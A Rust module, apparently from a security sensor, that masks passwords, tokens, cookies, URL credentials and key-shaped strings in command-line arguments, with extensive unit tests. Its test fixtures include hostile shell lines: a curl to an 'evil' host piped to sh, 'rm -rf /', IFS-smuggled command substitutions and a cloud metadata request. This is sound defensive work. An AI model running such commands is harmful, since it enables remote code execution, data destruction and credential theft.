//! Secrets in argument vectors, masked before an event leaves the sensor: values of known flags and variables,
//! credentials in URLs and headers, the shapes of known keys, and words too random to be anything else.
//!
//! Ids and digests that investigations need stay: paths, image digests, UUIDs, Git revisions, file hashes.
mod names;
mod programs;
mod random;

use self::names::{is_secret_name, is_secret_value, words};
use self::programs::{Takes, Value};
use regex::{Captures, Regex};
use std::borrow::Cow;
use std::sync::LazyLock;

/// What stands where a secret stood.
pub const MASKED: &str = "<masked>";

macro_rules! pattern {
    ($name:ident, $text:expr) => {
        static $name: LazyLock<Regex> =
            LazyLock::new(|| Regex::new($text).expect("a constant pattern, compiled by the tests"));
    };
}

// A whole argument that is `NAME=value` or `--name=value`.
pattern!(WHOLE, r"(?s)^(-{0,2}[A-Za-z_][A-Za-z0-9_.\-]*)=(.*)$");
// `NAME=value`, `"name": "value"`, `name: value`, and JSON inside a string with its quotes escaped. A value ends at its
// quote, at a blank or at what separates it from the next one; quoted pieces without blanks belong to it.
pattern!(
    ASSIGNMENT,
    concat!(
        r#"([A-Za-z_][A-Za-z0-9_.\-]*)(=|\\*["']\s*[:=]\s*|:\s+)"#,
        r#"(\\+"(?:[^"\\]|\\[^"\\])*(?:\\+"|\z)|"(?:[^"\\]|\\(?s:.))*(?:"|\z)|'[^']*(?:'|\z)"#,
        r#"|(?:\\[^"']|[^\s"'&;,}\\])(?:\\[^"']|[^\s"'&;,}\\]|"[^"\s]*"|'[^'\s]*')*)"#,
    )
);
// `--token value` inside one argument, as `sh -c` carries it.
pattern!(
    INLINE_FLAG,
    r#"(^|\s)(--[A-Za-z][A-Za-z0-9_\-]*)(\s+)("[^"]*"|'[^']*'|[^\s"'\-][^\s"']*)"#
);
// User and password: the password may hold slashes before its first `@`, and further `@` up to what ends a host.
pattern!(USERINFO, r#"(://)([^/\s:@"']*):([^\s"'@]+(?:@[^\s"'@/?#,]*)*)@"#);
// A user without a password, which is a token where it looks like one.
pattern!(USER, r#"(https?://)([^/\s:@"']+)@"#);
pattern!(
    HEADER,
    r#"(?i)\b((?:proxy-)?authorization|x-api-key|x-auth-token|x-vault-token|private-token|x-amz-security-token)(\s*[:=]\s*)((?:bearer|basic|token|digest|negotiate)\s+)?([^\s"']+)"#
);
// A header of cookies ends where its argument does, or its quote; bare in a script it has pairs, and what no `;` joins to
// them is the script's.
pattern!(COOKIE_ARGUMENT, r"(?is)^((?:-H\s*|--[a-z\-]+=)?(?:set-)?cookie\s*:\s*)(.+)$");
pattern!(QUOTED_COOKIES, r#"(?i)(["'](?:-H\s*)?(?:set-)?cookie\s*:\s*)([^"'\r\n]+)"#);
pattern!(
    COOKIES,
    r#"(?i)\b((?:set-)?cookie\s*[:=]\s*)([^\s"';]+(?:;[ \t]*[^\s"';=]+=[^\s"';]*)*)"#
);
pattern!(BEARER, r#"(?i)\b(bearer\s+)([A-Za-z0-9._~+/\-]{16,}=*)"#);
pattern!(
    KNOWN_KEYS,
    concat!(
        r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",
        r"|\bgh[pousr]_[A-Za-z0-9]{20,}",
        r"|\bgithub_pat_[A-Za-z0-9_]{20,}",
        r"|\bgl(?:pat|rt|dt)-[A-Za-z0-9_\-]{20,}",
        r"|\bxox[abeprs]-[A-Za-z0-9\-]{10,}",
        r"|\b[sr]k_(?:live|test)_[A-Za-z0-9]{16,}",
        r"|\bsk-[A-Za-z0-9_\-]{20,}",
        r"|\bAIza[0-9A-Za-z_\-]{35}",
        r"|\bya29\.[0-9A-Za-z_\-]{20,}",
        r"|\bnpm_[A-Za-z0-9]{36}",
        r"|\bpypi-[A-Za-z0-9_\-]{40,}",
        r"|\bhv[sb]\.[A-Za-z0-9_\-]{20,}",
        r"|\bdop_v1_[a-f0-9]{64}",
        r"|\bSG\.[A-Za-z0-9_\-]{16,}\.[A-Za-z0-9_\-]{16,}",
        r"|\bK10[0-9a-f]{64}::[^\s]+",
        r"|\beyJ[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]*",
        r"|(?s:-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(?:-----END [A-Z ]*PRIVATE KEY-----|\z))",
    )
);
// With what stands before it, which tells a path from a secret.
pattern!(WORD, r"(^|[^A-Za-z0-9+/_\-])([A-Za-z0-9+/_\-]{24,})");

/// Shorter user names of a URL are names.
const MIN_TOKEN_CHARS: usize = 16;

/// Masks an argument vector in place, `argv[0]` included. Returns whether anything was masked.
pub fn mask_arguments(arguments: &mut [String]) -> bool {
    let program = arguments.first().map(|first| program_name(first).to_owned()).unwrap_or_default();
    let login = arguments.iter().any(|argument| argument == "login");
    let operand = programs::operand(&program, arguments);
    let mut masked = false;
    let mut follows = None;
    for index in 0..arguments.len() {
        let argument = arguments[index].as_str();
        let expected = follows.take().filter(|_| argument == "-" || !argument.starts_with('-'));
        let changed = match expected {
            Some(takes) => mask_value(takes, argument),
            None if operand == Some(index) => mask_value(Takes::Secret, argument),
            None => match programs::value_of(&program, argument, login) {
                Some((Value::Next, takes)) => {
                    follows = Some(takes);
                    None
                }
                Some((Value::From(start), takes)) => mask_value(takes, &argument[start..])
                    .map(|value| argument[..start].to_owned() + &value),
                None if is_secret_flag(argument)
                    || (programs::sets_by_name(&program, &arguments[..index])
                        && words(argument).len() > 1
                        && is_secret_name(argument)) =>
                {
                    follows = Some(Takes::Secret);
                    None
                }
                None if is_script(&arguments[..index], argument) => mask_script(argument),
                None => mask_argument(argument),
            },
        };
        if let Some(text) = changed {
            arguments[index] = text;
            masked = true;
        }
    }
    masked
}

/// The masked value of a flag; `None` where it holds no secret. A value of another form than the flag's may still hold
/// one: `curl -u TOKEN`, `--token "$(curl …)"`.
fn mask_value(takes: Takes, value: &str) -> Option<String> {
    let (before, secret) = match takes {
        Takes::Secret => (Cow::Borrowed(""), Some(value)),
        Takes::After(sign) => match value.split_once(sign) {
            Some((name, secret)) => (format!("{}{sign}", mask_text(name)).into(), Some(secret)),
            None => (Cow::Borrowed(""), None),
        },
        Takes::Source => (Cow::Borrowed("pass:"), value.strip_prefix("pass:")),
    };
    match secret {
        Some(secret) if is_secret_value(secret) => Some(format!("{before}{MASKED}")),
        _ => mask_script(value),
    }
}

/// One argument: `NAME=value` has no end but the argument's, whatever signs the value holds; the value of a name that
/// is not secret may itself be an assignment.
fn mask_argument(argument: &str) -> Option<String> {
    let mut value = argument;
    while let Some(found) = WHOLE.captures(value) {
        value = &value[value.len() - found[2].len()..];
        if is_secret_name(&found[1]) {
            if is_secret_value(value) {
                return Some(argument[..argument.len() - value.len()].to_owned() + MASKED);
            }
            break;
        }
    }
    mask_script(argument)
}

/// A text in which an assignment ends where the shell ends it.
fn mask_script(text: &str) -> Option<String> {
    match mask_text(text) {
        Cow::Borrowed(_) => None,
        Cow::Owned(masked) => Some(masked),
    }
}

/// Whether an argument is a script for a shell: words after `-c`, alone or in a cluster.
fn is_script(before: &[String], argument: &str) -> bool {
    let cluster = before.last().and_then(|flag| flag.strip_prefix('-'));
    argument.contains(char::is_whitespace)
        && cluster.is_some_and(|letters| {
            letters.contains('c') && letters.bytes().all(|letter| letter.is_ascii_lowercase())
        })
}

/// Masks secrets inside one text; borrowed where there are none.
pub fn mask_text(text: &str) -> Cow<'_, str> {
    let mut result = Cow::Borrowed(text);
    let mut change = |pattern: &Regex, with: &dyn Fn(&Captures<'_>) -> Masking| {
        if let Some(changed) = replace(pattern, &result, with) {
            result = Cow::Owned(changed);
        }
    };
    change(&KNOWN_KEYS, &|_| Masking::Replace(MASKED.to_owned()));
    change(&HEADER, &|found| {
        let scheme = found.get(3).map_or("", |scheme| scheme.as_str());
        masking(&found[4], || format!("{}{}{scheme}{MASKED}", &found[1], &found[2]))
    });
    for cookies in [&COOKIE_ARGUMENT, &QUOTED_COOKIES, &COOKIES] {
        change(cookies, &|found| masking(&found[2], || format!("{}{MASKED}", &found[1])));
    }
    change(&BEARER, &|found| Masking::Replace(format!("{}{MASKED}", &found[1])));
    change(&USERINFO, &mask_password);
    change(&USER, &|found| {
        let token = found[2].len() >= MIN_TOKEN_CHARS
            && found[2].bytes().any(|byte| byte.is_ascii_digit())
            && !found[2].contains("%40");
        match token {
            true => Masking::Replace(format!("{}{MASKED}@", &found[1])),
            false => Masking::Keep,
        }
    });
    change(&ASSIGNMENT, &|found| {
        if !is_secret_name(&found[1]) {
            // What looks like a value may be a name: `--from-literal=password=…`.
            return Masking::KeepUpTo(3);
        }
        let quote = quote(&found[3]);
        masking(unquoted(&found[3]), || format!("{}{}{quote}{MASKED}{quote}", &found[1], &found[2]))
    });
    change(&INLINE_FLAG, &|found| {
        if !is_secret_name(&found[2]) {
            return Masking::KeepUpTo(4);
        }
        let quote = quote(&found[4]);
        masking(unquoted(&found[4]), || {
            format!("{}{}{}{quote}{MASKED}{quote}", &found[1], &found[2], &found[3])
        })
    });
    change(&WORD, &mask_word);
    result
}

/// What becomes of a match.
enum Masking {
    Replace(String),
    /// The first bytes of it only; the search goes on behind them.
    ReplaceUpTo(String, usize),
    Keep,
    /// The search goes on where this group begins.
    KeepUpTo(usize),
}

fn masking(secret: &str, masked: impl FnOnce() -> String) -> Masking {
    if is_secret_value(secret) { Masking::Replace(masked()) } else { Masking::Keep }
}

/// `None` where nothing changes.
fn replace(pattern: &Regex, text: &str, with: &dyn Fn(&Captures<'_>) -> Masking) -> Option<String> {
    let (mut changed, mut done, mut at) = (None::<String>, 0, 0);
    while let Some(found) = pattern.captures_at(text, at) {
        let Some(whole) = found.get(0) else { break };
        at = whole.end();
        let masked = match with(&found) {
            Masking::Replace(masked) => Some(masked),
            Masking::ReplaceUpTo(masked, length) => {
                at = whole.start() + length;
                Some(masked)
            }
            Masking::Keep => None,
            Masking::KeepUpTo(group) => {
                let quotes = |c| matches!(c, '\\' | '"' | '\'');
                if let Some(group) = found.get(group) {
                    at = group.end() - group.as_str().trim_start_matches(quotes).len();
                }
                None
            }
        };
        if let Some(masked) = masked {
            let so_far = changed.get_or_insert_default();
            so_far.push_str(&text[done..whole.start()]);
            so_far.push_str(&masked);
            done = at;
        }
        if at >= text.len() {
            break;
        }
    }
    let mut changed = changed?;
    changed.push_str(&text[done..]);
    (changed != text).then_some(changed)
}

fn mask_password(found: &Captures<'_>) -> Masking {
    let (user, password) = (&found[2], &found[3]);
    let before = format!("{}{user}:", &found[1]);
    // `host:8080/name@…` is a port and a path.
    let port = password.trim_start_matches(|c: char| c.is_ascii_digit());
    if !user.is_empty() && port.len() < password.len() && port.starts_with(['/', '?']) {
        let length = before.len();
        return Masking::ReplaceUpTo(before, length);
    }
    let shown = if is_secret_value(password) { MASKED } else { password };
    Masking::ReplaceUpTo(format!("{before}{shown}"), before.len() + password.len())
}

fn mask_word(found: &Captures<'_>) -> Masking {
    let (before, word) = (&found[1], &found[2]);
    if !word.contains('/') {
        let random = random::is_random(word);
        return if random { Masking::Replace(format!("{before}{MASKED}")) } else { Masking::Keep };
    }
    if !matches!(before, "." | "~" | ":" | "@") && random::is_random_slashed(word) {
        return Masking::Replace(format!("{before}{MASKED}"));
    }
    let masked = |part| if random::is_random(part) { MASKED } else { part };
    let parts: Vec<&str> = word.split('/').map(masked).collect();
    Masking::Replace(format!("{before}{}", parts.join("/")))
}

fn program_name(argument: &str) -> &str {
    // Login shells put a dash before their name.
    argument.rsplit('/').next().unwrap_or_default().trim_start_matches('-')
}

fn is_secret_flag(argument: &str) -> bool {
    argument.starts_with("--") && !argument.contains(['=', ' ']) && is_secret_name(argument)
        || (argument.starts_with('-')
            && matches!(
                argument.trim_start_matches('-'),
                "password" | "pass" | "token" | "secret" | "setcookie"
            ))
}

/// A value without the quotes around it, escaped or not.
fn unquoted(value: &str) -> &str {
    let quote = quote(value);
    let inner = value.strip_prefix(quote).unwrap_or(value);
    if quote.is_empty() { inner } else { inner.strip_suffix(quote).unwrap_or(inner) }
}

/// The quote that a value begins with.
fn quote(value: &str) -> &str {
    let escapes = value.len() - value.trim_start_matches('\\').len();
    match value.as_bytes().get(escapes) {
        Some(b'"' | b'\'') => &value[..=escapes],
        _ => "",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(arguments: &[&str], expected: &[&str]) {
        let mut masked: Vec<String> =
            arguments.iter().map(|argument| (*argument).to_owned()).collect();
        let changed = mask_arguments(&mut masked);
        assert_eq!(masked, expected);
        assert_eq!(changed, arguments != expected, "says whether it masked: {arguments:?}");
        let again = mask_arguments(&mut masked.clone());
        assert!(!again, "masking twice changes nothing: {masked:?}");
    }

    #[track_caller]
    fn stays(arguments: &[&str]) {
        check(arguments, arguments);
    }

    #[test]
    fn flags() {
        check(&["app", "--password", "hunter2"], &["app", "--password", "<masked>"]);
        check(&["app", "--password=hunter2", "-v"], &["app", "--password=<masked>", "-v"]);
        check(&["app", "-password", "hunter2"], &["app", "-password", "<masked>"]);
        check(
            &["app", "--db-password", "a", "--x", "b"],
            &["app", "--db-password", "<masked>", "--x", "b"],
        );
        check(&["app", "--clientSecret=abc"], &["app", "--clientSecret=<masked>"]);
        check(&["app", "--api-key", "abc"], &["app", "--api-key", "<masked>"]);
        check(
            &["kubectl", "--token=abc", "get", "pods"],
            &["kubectl", "--token=<masked>", "get", "pods"],
        );
        check(&["app", "--set", "auth.password=abc"], &["app", "--set", "auth.password=<masked>"]);
        check(
            &["/usr/bin/mysql", "-uroot", "-phunter2"],
            &["/usr/bin/mysql", "-uroot", "-p<masked>"],
        );
        check(&["mysql", "-p", "hunter2"], &["mysql", "-p", "<masked>"]);
        check(&["sshpass", "-p", "x1", "ssh", "h"], &["sshpass", "-p", "<masked>", "ssh", "h"]);
        check(
            &["docker", "login", "-u", "me", "-p", "x1"],
            &["docker", "login", "-u", "me", "-p", "<masked>"],
        );
        check(&["redis-cli", "-a", "x1"], &["redis-cli", "-a", "<masked>"]);
        check(&["curl", "-u", "me:x1", "http://h"], &["curl", "-u", "me:<masked>", "http://h"]);
        check(&["curl", "-ume:x1"], &["curl", "-ume:<masked>"]);
        check(&["curl", "--user=me:x1"], &["curl", "--user=me:<masked>"]);
    }

    #[test]
    fn values_to_their_end() {
        for (argument, expected) in [
            ("--from-literal=password=X", "--from-literal=password=<masked>"),
            ("--set=auth.password=X", "--set=auth.password=<masked>"),
            ("--env=MYSQL_ROOT_PASSWORD=X", "--env=MYSQL_ROOT_PASSWORD=<masked>"),
            ("--build-arg=NPM_TOKEN=X", "--build-arg=NPM_TOKEN=<masked>"),
            ("--url=https://h/?token=X&b=1", "--url=https://h/?token=<masked>&b=1"),
            ("--password=hunt,er2", "--password=<masked>"),
            ("PASSWORD=pa;ss&word", "PASSWORD=<masked>"),
            ("PASSWORD=a \"b\" c", "PASSWORD=<masked>"),
            ("--token=-X", "--token=<masked>"),
            ("--token=@X", "--token=<masked>"),
            ("DB_PASS=/X", "DB_PASS=<masked>"),
            ("DB_PASS=$ecret", "DB_PASS=<masked>"),
            ("--set=a.b=1,auth.password=X", "--set=a.b=1,auth.password=<masked>"),
        ] {
            check(&["app", argument], &["app", expected]);
        }
        check(&["app", "--password", "@X"], &["app", "--password", "<masked>"]);
        check(&["app", "--password", "$ecret"], &["app", "--password", "<masked>"]);
        check(&["docker", "run", "-e", "DB_PASS=/X"], &["docker", "run", "-e", "DB_PASS=<masked>"]);
        check(
            &["sh", "-c", "kubectl create secret generic s --from-literal=password=X --dry-run"],
            &[
                "sh",
                "-c",
                "kubectl create secret generic s --from-literal=password=<masked> --dry-run",
            ],
        );
        check(
            &["sh", "-c", "PASSWORD=ab\"cd\"ef run 'x y'"],
            &["sh", "-c", "PASSWORD=<masked> run 'x y'"],
        );
        for (json, expected) in [
            (r#"{"password": "a\"b", "user": "u"}"#, r#"{"password": "<masked>", "user": "u"}"#),
            (
                r#"{\"password\": \"ab\", \"user\": \"u\"}"#,
                r#"{\"password\": \"<masked>\", \"user\": \"u\"}"#,
            ),
            (r#"{\"password\":\"ab\"}"#, r#"{\"password\":\"<masked>\"}"#),
            (r#"{"a": {"token": "b"}}"#, r#"{"a": {"token": "<masked>"}}"#),
        ] {
            check(&["curl", "-d", json], &["curl", "-d", expected]);
        }
    }

    #[test]
    fn by_program() {
        for (arguments, expected) in [
            (
                "aws configure set aws_secret_access_key wJalr/K7",
                "aws configure set aws_secret_access_key <masked>",
            ),
            (
                "git config --global gh.oauth-token abc",
                "git config --global gh.oauth-token <masked>",
            ),
            ("htpasswd -b f u X", "htpasswd -b f u <masked>"),
            ("htpasswd -cbB f u -X", "htpasswd -cbB f u <masked>"),
            ("htpasswd -nb u X", "htpasswd -nb u <masked>"),
            ("htpasswd -nbBC 10 u X", "htpasswd -nbBC 10 u <masked>"),
            ("curl -su me:X h", "curl -su me:<masked> h"),
            ("curl -sume:X h", "curl -sume:<masked> h"),
            ("curl --user me:X h", "curl --user me:<masked> h"),
            ("curl --oauth2-bearer X h", "curl --oauth2-bearer <masked> h"),
            ("openssl rsa -passin pass:X", "openssl rsa -passin pass:<masked>"),
            ("openssl enc -d -k X", "openssl enc -d -k <masked>"),
            ("openssl enc -pass pass:X", "openssl enc -pass pass:<masked>"),
            ("smbclient //h/s -U u%X", "smbclient //h/s -U u%<masked>"),
            ("smbclient //h/s -Uu%X", "smbclient //h/s -Uu%<masked>"),
            ("smbclient //h/s --user=u%X", "smbclient //h/s --user=u%<masked>"),
            ("unzip -oP X a.zip", "unzip -oP <masked> a.zip"),
            ("ldapsearch -x -wX", "ldapsearch -x -w<masked>"),
            ("http -a me:X h", "http -a me:<masked> h"),
            ("xfreerdp /u:me /p:X", "xfreerdp /u:me /p:<masked>"),
        ] {
            let split = |text: &'static str| text.split(' ').collect::<Vec<_>>();
            check(&split(arguments), &split(expected));
        }
        for stay in [
            "htpasswd f u",
            "htpasswd -n u",
            "htpasswd -b f u",
            "openssl rsa -passin env:PW",
            "openssl rsa -passin file:/run/pw",
            "openssl rsa -passin stdin",
            "smbclient //h/s -U u",
            "curl -sU me h",
            "curl -so out h",
            "curl -u me: h",
            "aws configure set region eu-west-1",
            "git config user.name me",
            "unzip -p a.zip",
            "mysql -p -h db",
            "mysql --port 3306",
        ] {
            stays(&stay.split(' ').collect::<Vec<_>>());
        }
    }

    #[test]
    fn secrets_where_a_flag_takes_another_form() {
        const KEY: &str = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
        for (arguments, expected) in [
            ("curl -u KEY: h", "curl -u <masked>: h"),
            ("curl -u KEY:x-oauth-basic h", "curl -u <masked>:<masked> h"),
            ("curl -uKEY h", "curl -u<masked> h"),
            ("wget --user KEY h", "wget --user <masked> h"),
            ("http -a KEY h", "http -a <masked> h"),
            ("smbclient //h/s -U KEY", "smbclient //h/s -U <masked>"),
            ("lftp -u KEY h", "lftp -u <masked> h"),
            ("openssl enc -pass KEY", "openssl enc -pass <masked>"),
            ("mysql -p$(echo${IFS}KEY)", "mysql -p$(echo${IFS}<masked>)"),
            (
                "app --token $(curl${IFS}https://me:pw@h/)",
                "app --token $(curl${IFS}https://me:<masked>@h/)",
            ),
            ("TOKEN=$(curl${IFS}https://me:pw@h/)", "TOKEN=$(curl${IFS}https://me:<masked>@h/)"),
        ] {
            let split = |text: &str| -> Vec<String> {
                text.split(' ').map(|word| word.replace("KEY", KEY)).collect()
            };
            let (mut masked, expected) = (split(arguments), split(expected));
            assert!(mask_arguments(&mut masked), "{arguments}");
            assert_eq!(masked, expected);
        }
        check(
            &["env", "TOKEN=$(curl -H 'X-Vault-Token: s.abc' h) PASSWORD=x run"],
            &["env", "TOKEN=$(curl -H 'X-Vault-Token: <masked>' h) PASSWORD=<masked> run"],
        );
    }

    #[test]
    fn users_of_urls() {
        for (url, expected) in [
            ("redis://:p/ss@h", "redis://:<masked>@h"),
            ("redis://:1234/5@h", "redis://:<masked>@h"),
            ("postgres://u:p@ss@db:5432/x", "postgres://u:<masked>@db:5432/x"),
            ("a://u:p@h,b://v:q@i", "a://u:<masked>@h,b://v:<masked>@i"),
            ("a://u:p@h/x@y", "a://u:<masked>@h/x@y"),
            ("http://h:80/x,redis://:p@h", "http://h:80/x,redis://:<masked>@h"),
            ("a://u:$PW@h,b://v:q@i", "a://u:$PW@h,b://v:<masked>@i"),
            ("https://0123456789abcdef0123@host/r.git", "https://<masked>@host/r.git"),
        ] {
            check(&["c", url], &["c", expected]);
        }
        for stay in [
            "http://host:8080/name@example",
            "https://user@host/r.git",
            "ssh://git@host/r.git",
            "https://first.last%40example.com1@host/",
        ] {
            stays(&["c", stay]);
        }
    }

    #[test]
    fn variables_headers_urls() {
        check(&["env", "PGPASSWORD=x", "psql"], &["env", "PGPASSWORD=<masked>", "psql"]);
        check(&["env", "MYSQL_PWD=x"], &["env", "MYSQL_PWD=<masked>"]);
        check(&["env", "AWS_SECRET_ACCESS_KEY=x"], &["env", "AWS_SECRET_ACCESS_KEY=<masked>"]);
        check(
            &["sh", "-c", "TOKEN='a b' run --secret s1"],
            &["sh", "-c", "TOKEN='<masked>' run --secret <masked>"],
        );
        check(
            &["sh", "-c", r#"echo '{"password": "x"}'"#],
            &["sh", "-c", r#"echo '{"password": "<masked>"}'"#],
        );
        check(
            &["c", "Server=db;User=a;Password=x;Port=1"],
            &["c", "Server=db;User=a;Password=<masked>;Port=1"],
        );
        check(
            &["git", "clone", "https://me:pw@host/r.git"],
            &["git", "clone", "https://me:<masked>@host/r.git"],
        );
        check(&["c", "postgres://u:p%40ss@db:5432/x"], &["c", "postgres://u:<masked>@db:5432/x"]);
        check(
            &["curl", "-H", "Authorization: Bearer abc"],
            &["curl", "-H", "Authorization: Bearer <masked>"],
        );
        check(
            &["curl", "-H", "Authorization: Basic dTpw"],
            &["curl", "-H", "Authorization: Basic <masked>"],
        );
        for (argument, expected) in [
            ("Cookie: a=b; session=c", "Cookie: <masked>"),
            ("Cookie: a=\"b\"; session=c d", "Cookie: <masked>"),
            ("-HCookie: a=b", "-HCookie: <masked>"),
            ("--header=Cookie: a=b; c=d", "--header=Cookie: <masked>"),
            ("--cookie=SESSION=a; b=c", "--cookie=SESSION=<masked>"),
            ("-bSESSION=a", "-bSESSION=<masked>"),
        ] {
            check(&["curl", argument], &["curl", expected]);
        }
        for (script, expected) in [
            ("curl -H Cookie:a=b http://evil/x | sh", "curl -H Cookie:<masked> http://evil/x | sh"),
            ("curl -H 'Cookie: a=b c; d=e' h; id", "curl -H 'Cookie: <masked>' h; id"),
            ("x Cookie: a=b; c=d; rm -rf /", "x Cookie: <masked>; rm -rf /"),
            ("curl --cookie=SESSION=abc h", "curl --cookie=<masked> h"),
        ] {
            check(&["sh", "-c", script], &["sh", "-c", expected]);
            check(&["sh", "-ce", script], &["sh", "-ce", expected]);
        }
        stays(&["curl", "--cookie", "jar.txt", "--cookie-jar=/tmp/jar"]);
        check(&["curl", "-HX-Api-Key: abc"], &["curl", "-HX-Api-Key: <masked>"]);
        check(
            &["curl", "https://h/p?a=1&sig=abc&b=2"],
            &["curl", "https://h/p?a=1&sig=<masked>&b=2"],
        );
    }

    #[test]
    fn shapes_of_keys() {
        for key in [
            "AKIAIOSFODNN7EXAMPLE",
            "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
            "xoxb-1234567890-abcdefghij",
            "glpat-abcdefghijklmnopqrst",
            "sk_live_abcdefghijklmnop",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\nMIIE",
            "wJalrXUtnFEMI2K7MDENGbPxRfiCYEX4MPLEKEY9",
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLE1KEY2",
        ] {
            check(&["run", key], &["run", MASKED]);
            check(&["run", &format!("x {key}")], &["run", "x <masked>"]);
            let (long, masked) =
                ("a_name_of_more_than_24_chars=", "a_name_of_more_than_24_chars=<masked>");
            check(&["run", &format!("x {long}{key}")], &["run", &format!("x {masked}")]);
        }
        check(&["run", "dGhpc0lzQVJhbmRvbTEyM1NlY3JldDQ1Ng=="], &["run", "<masked>=="]);
    }

    #[test]
    fn what_is_no_secret_stays() {
        stays(&["nginx", "-g", "daemon off;"]);
        stays(&["openssl", "enc", "-pass", "env:PW"]);
        stays(&["mkdir", "-p", "/var/lib/app/releases"]);
        stays(&["ssh", "-p", "2222", "host"]);
        stays(&["docker", "run", "-p", "8080:80", "nginx"]);
        stays(&["app", "--password-file", "/run/secrets/pw"]);
        stays(&["app", "--password-file=/run/secrets/pw"]);
        stays(&["app", "--token=/var/run/secrets/token"]);
        stays(&["app", "--token", "$TOKEN"]);
        stays(&["app", "--password=${PW}"]);
        stays(&["app", "--token", "-"]);
        stays(&["app", "--password", "--verbose"]);
        stays(&["tar", "-xf", "Releases/Version2/Build45/Output3x9/archive"]);
        stays(&["cp", "src/Main7/App2/Views/Index4Page9", "/usr/share/Fonts2/Noto3Sans/Regular4x"]);
        stays(&["app", "--api-key-id", "abc"]);
        stays(&["app", "--public-key=abc"]);
        stays(&["app", "--token-ttl=1h"]);
        stays(&["app", "--use-token=false"]);
        stays(&["sort", "--key=2"]);
        stays(&["redis-cli", "SET", "key", "value"]);
        stays(&[
            "pull",
            "nginx@sha256:9c4b7ad2a9f3d6c1f7f9f7a2d3c5a1b0e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3",
        ]);
        stays(&["pull", "my-secret:latest"]);
        stays(&["git", "checkout", "da39a3ee5e6b4b0d3255bfef95601890afd80709"]);
        stays(&["get", "3e41dc6b-08a8-44db-bc2a-3724b18ab19a"]);
        stays(&[
            "cat",
            "/var/lib/kubelet/pods/3e41dc6b-08a8-44db-bc2a-3724b18ab19a/volumes/kubernetes.io~secret/x",
        ]);
        stays(&["md5", "d41d8cd98f00b204e9800998ecf8427e"]);
        stays(&["kubectl", "logs", "web-7d4b9c6f5d-x2x9k"]);
        stays(&["kubectl", "get", "secret", "my-credentials"]);
        stays(&[
            "java",
            "-Dspring.profiles.active=production",
            "org.springframework.boot.loader.JarLauncher",
        ]);
        stays(&["java", "AbstractSingletonProxyFactoryBeanImplementation2"]);
        stays(&["npm", "sha512-Vd1Aq2Bx3Cz4Dy5Ew6Fv7Gu8Ht9Is0JrKqLpMoNnOmPlQkRjSiThUgVf=="]);
        stays(&["runc", "--root", "/run/containerd/runc/k8s.io", "create"]);
        stays(&["ls", "/nix/store/0c4h3v2xk7qv9i8mcl1w5gk1b2n3p4r5-bash-5.2/bin"]);
        stays(&["arn:aws:secretsmanager:eu-west-1:123456789012:secret:name"]);
        stays(&["curl", "http://169.254.169.254/latest/meta-data/"]);
        stays(&["curl", "-u", "me", "http://user@host:80/"]);
        stays(&["go", "get", "golang.org/x/net@v0.0.0-20220722155237-a158d28d115b"]);
        stays(&[]);
        stays(&[""]);
    }
}
